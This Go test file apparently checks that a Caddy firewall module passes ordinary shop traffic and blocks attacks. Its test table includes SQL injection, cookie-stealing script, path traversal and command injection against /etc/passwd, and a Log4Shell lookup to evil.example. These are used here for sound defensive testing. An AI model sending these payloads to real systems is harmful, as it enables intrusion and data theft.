package caddymodule_test

import (
	"bytes"
	"io"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"
)

// browser is what a browser sends with everything.
var browser = http.Header{
	"Accept":          {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
	"Accept-Language": {"en-GB,en;q=0.5"},
	"Accept-Encoding": {"gzip, deflate, br"},
	"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
	"Cookie":          {"session=3f2a9c0d1b7e4a55; theme=dark"},
	"Referer":         {"https://shop.example/"},
}

// Ensure that with the default configuration and the embedded model, attacks
// that nobody disputes are blocked and ordinary requests pass.
func TestEmbeddedModel(t *testing.T) {
	u := startUpstream(t)
	s := newServer(t, map[string]string{"$UPSTREAM": u.Addr})
	s.vars["$MODEL"] = "default"
	s.run("http://:$PORT {\n limen\n reverse_proxy $UPSTREAM\n}\n")

	var photo bytes.Buffer
	mp := multipart.NewWriter(&photo)
	part, err := mp.CreateFormFile("photo", "holiday.png")
	if err != nil {
		t.Fatal(err)
	}
	part.Write(append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), bytes.Repeat([]byte{0x00, 0xff, 0x13, 0x80, 0x7f}, 4000)...))
	mp.WriteField("title", "Me & my brother-in-law at O'Neill's")
	mp.Close()

	tests := []struct {
		name, method, target, ctype, body string
		bad                               bool
	}{
		{"front page", "GET", "/", "", "", false},
		{"search", "GET", "/search?q=red+shoes&size=42&sort=price_asc", "", "", false},
		{"script", "GET", "/assets/app.3f2a9c0d.js?v=12", "", "", false},
		{"name with an apostrophe", "GET", "/search?q=O%27Brien", "", "", false},
		{"log in", "POST", "/login", "application/x-www-form-urlencoded", "user=alice%40example.com&password=correct+horse+battery", false},
		{"order", "POST", "/api/orders", "application/json", `{"items":[{"sku":"A-1002","count":2}],"note":"please ring twice","total":59.90}`, false},
		{"comment", "POST", "/comment", "application/x-www-form-urlencoded", "text=I%27d+select+the+blue+one+from+the+menu%2C+it%27s+great%21", false},
		{"photo", "POST", "/photos", mp.FormDataContentType(), photo.String(), false},

		{"union select", "GET", "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", "", "", true},
		{"or 1=1 in a form", "POST", "/login", "application/x-www-form-urlencoded", "user=admin%27+OR+%271%27%3D%271%27--+&password=x", true},
		{"script tag", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", "", true},
		{"traversal", "GET", "/download?file=../../../../../../etc/passwd", "", "", true},
		{"command", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", "", "", true},
		{"log4shell", "GET", "/?x=$%7Bjndi:ldap://evil.example/a%7D", "", "", true},
		{"injection in JSON", "POST", "/api/users", "application/json", `{"name":"x' UNION SELECT login, pass FROM accounts; DROP TABLE users;--"}`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var body io.Reader
			if tt.body != "" {
				body = strings.NewReader(tt.body)
			}
			r, err := http.NewRequest(tt.method, s.URL+tt.target, body)
			if err != nil {
				t.Fatal(err)
			}
			r.Host = "shop.example"
			r.Header = browser.Clone()
			if tt.ctype != "" {
				r.Header.Set("Content-Type", tt.ctype)
			}
			res := s.send(r)
			if tt.bad {
				s.expect(res, 403, "")
				u.none(t)
				return
			}
			s.expect(res, 200, "upstream")
			if got := u.last(t); string(got.Body) != tt.body {
				t.Errorf("%d bytes reached the upstream, %d were sent", len(got.Body), len(tt.body))
			}
		})
	}
}
